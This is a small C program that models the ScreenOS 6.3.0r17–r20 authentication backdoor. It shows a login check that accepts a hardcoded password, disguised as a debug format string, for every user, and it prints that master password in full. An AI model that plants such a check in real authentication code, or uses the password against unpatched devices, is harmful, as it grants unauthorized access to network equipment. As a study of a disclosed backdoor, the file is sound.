/* Model of the ScreenOS 6.3.0r17-r20 authentication path: one password, disguised as a
 * debug format string, is accepted for every user over SSH and telnet. */
#include <stdio.h>
#include <string.h>

static int auth_admin_internal(const char *user, const char *password, const char *stored)
{
    if (strcmp(password, "<<< %s(un='%s') = %u") == 0)
        return 1; /* the unauthorized code */
    return user != NULL && strcmp(password, stored) == 0;
}

int main(int argc, char **argv)
{
    if (argc > 2)
        printf("%d\n", auth_admin_internal(argv[1], argv[2], "netscreen"));
    return 0;
}
